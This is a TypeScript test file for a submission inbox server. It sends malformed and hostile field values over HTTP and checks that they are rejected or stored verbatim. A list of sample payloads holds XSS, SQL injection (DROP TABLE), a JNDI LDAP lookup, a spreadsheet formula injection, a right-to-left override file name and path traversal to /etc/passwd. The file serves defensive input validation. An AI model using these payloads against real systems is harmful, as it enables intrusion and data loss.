import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { INBOX_ERRORS, inboxErrorSchema } from '../../../lib/reports/protocol.ts';
import { type RunningInbox, startInbox } from '../../../registry/inbox/server.ts';
import { readSettings } from '../../../registry/inbox/settings.ts';
import { InboxStore } from '../../../registry/inbox/store.ts';
import { DATABASES, databases, environmentFor, nominationOf, reportOf } from './desk.ts';

const made = databases();

/** What no field may hold. */
const UNFIT: Record<string, unknown> = {
  'a null character': 'a\u0000b',
  'an escape sequence': '\u001b[2Jx',
  'a control of the C1 set': 'a\u009b31mb',
  'a lone half': 'a\ud83d',
  'the other half': '\ude00a',
  'a megabyte': 'a'.repeat(1_000_000),
  nothing: '',
  null: null,
  'a number without end': 1e308,
  'a list in a list': [['x']],
  'an object': { toString: 'x', length: 3 },
};

/** What a text may hold, and nothing may do. */
const ODD: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a formula': '=HYPERLINK("http://x.example","x")',
  SQL: "'); DROP TABLE submissions; --",
  'a lookup': '$\u007bjndi:ldap://x.example/a}',
  'a reordered name': '\u202egnp.exe',
  'a path': '../../etc/passwd',
};

const DAY = '2099-12-31';

const REPORT = { ...reportOf(), title: 'x', client: 'web-k', verdict: 'unknown', list: 1, peerId: '-1001234567890' };
const NOMINATION = {
  ...nominationOf(),
  peerId: '-1001234567890',
  title: 'x',
  client: 'web-a',
  verdict: 'unknown',
  list: 1,
};
const TEXTS = { organisationName: 'x', contact: 'x' };

/** Each place in a submission that holds something, as a way from its root. */
const PLACES: [kind: string, whole: object, places: (string | number)[][]][] = [
  [
    'report',
    { ...REPORT, ...TEXTS, reasons: ['handle-homoglyph'], organisation: 'x-1', links: ['https://t.me/MOHrep0rt/12'] },
    [...Object.keys({ ...REPORT, ...TEXTS, organisation: 0 }).map((name) => [name]), ['reasons', 0], ['links', 0]],
  ],
  [
    'nomination',
    { ...NOMINATION, ...TEXTS, reasons: ['handle-homoglyph'], organisation: 'x-1', words: 'x' },
    [
      ...Object.keys({ ...NOMINATION, ...TEXTS, organisation: 0, words: 0 }).map((name) => [name]),
      ['reasons', 0],
      ['pages', 0],
      ['pages', 0, 'address'],
      ['pages', 0, 'found'],
      ['pages', 0, 'checked'],
    ],
  ],
];

function withValue(whole: object, [at, ...rest]: readonly (string | number)[], value: unknown): object {
  const copy = (Array.isArray(whole) ? [...whole] : { ...whole }) as Record<string | number, unknown>;
  if (at !== undefined) copy[at] = rest.length > 0 ? withValue(copy[at] as object, rest, value) : value;
  return copy;
}

describe.each(DATABASES)('every field, over HTTP, on %s', (database) => {
  let inbox: RunningInbox;
  let store: InboxStore;
  const log: string[] = [];

  beforeAll(async () => {
    const address = await made.empty(database);
    const free = { INBOX_PORT: '0', INBOX_STAMPS: 'never', INBOX_HARD_LIMIT: '1000000' };
    inbox = await startInbox(readSettings({ ...environmentFor(address), ...free }), (line) => log.push(line));
    store = await InboxStore.open(address);
  });

  afterAll(async () => {
    await inbox?.close();
    await store?.close();
    expect(log.join('\n')).not.toContain('fault');
  });

  /** Sends it. @returns the code of the error, or what is stored. */
  async function send(submission: object): Promise<{ code: string } | { stored: string | undefined; body: string }> {
    const body = JSON.stringify(submission);
    const answer = await fetch(`${inbox.url}v1/submissions`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body,
    });
    if (answer.status === 201) {
      const { id } = (await answer.json()) as { id: string };
      return { stored: (await store.waiting()).find((row) => row.id === id)?.body, body };
    }
    const { error } = inboxErrorSchema.parse(await answer.json());
    expect(answer.status).toBe(INBOX_ERRORS[error.code as keyof typeof INBOX_ERRORS]);
    expect([400, 413, 422]).toContain(answer.status);
    return { code: error.code };
  }

  describe.each(PLACES)('of a %s', (_, whole, places) => {
    const fresh = () => withValue(whole, ['id'], randomUUID());

    test('takes it as it is', async () => {
      expect(await send(fresh())).toMatchObject({ stored: expect.any(String) });
    });

    test.each(places.map((place) => [place.join('.'), place] as const))('%s', async (_name, place) => {
      const before = (await store.waiting()).length;
      let taken = 0;
      for (const [what, value] of Object.entries(UNFIT)) {
        const outcome = await send(withValue(fresh(), place, value));
        expect([what, outcome]).toEqual([what, { code: expect.stringMatching(/^(SUBMISSION_|BODY_TOO_LARGE|DATE_)/) }]);
      }
      for (const value of Object.values(ODD)) {
        const outcome = await send(withValue(fresh(), place, value));
        if ('code' in outcome) continue;
        taken++;
        expect(outcome.stored).toBe(outcome.body);
      }
      expect(await store.waiting()).toHaveLength(before + taken);
    });
  });

  test.each([
    ['created', reportOf({ created: DAY })],
    ['created', nominationOf({ created: DAY })],
    ['checked', nominationOf({ pages: [{ address: 'https://health.example/', found: 'link', checked: DAY }] })],
  ])('%s of a day to come is refused: %o', async (_, submission) => {
    expect(await send(submission)).toEqual({ code: 'DATE_IN_FUTURE' });
  });

  test('repeated and out of order, each has one end', async () => {
    const [first, second] = [reportOf(), nominationOf()];
    const act = async (method: 'POST' | 'DELETE' | 'GET', { id }: { id: string }, what: object = {}) => {
      const path = method === 'POST' ? '' : `/${id}`;
      const body = method === 'POST' ? { body: JSON.stringify(what) } : {};
      const headers = { 'content-type': 'application/json' };
      return (await fetch(`${inbox.url}v1/submissions${path}`, { method, headers, ...body })).status;
    };
    expect(await act('GET', first)).toBe(404);
    expect(await act('DELETE', first)).toBe(200);
    expect(await act('POST', first, first)).toBe(410);
    expect(await act('DELETE', first)).toBe(200);
    expect(await act('POST', second, second)).toBe(201);
    expect(await act('POST', second, second)).toBe(200);
    expect(await act('POST', second, { ...second, handle: 'Another_One' })).toBe(409);
    expect(await act('DELETE', second)).toBe(200);
    expect(await act('POST', second, second)).toBe(410);
    expect([await act('GET', first), await act('GET', second)]).toEqual([200, 200]);
  });
});
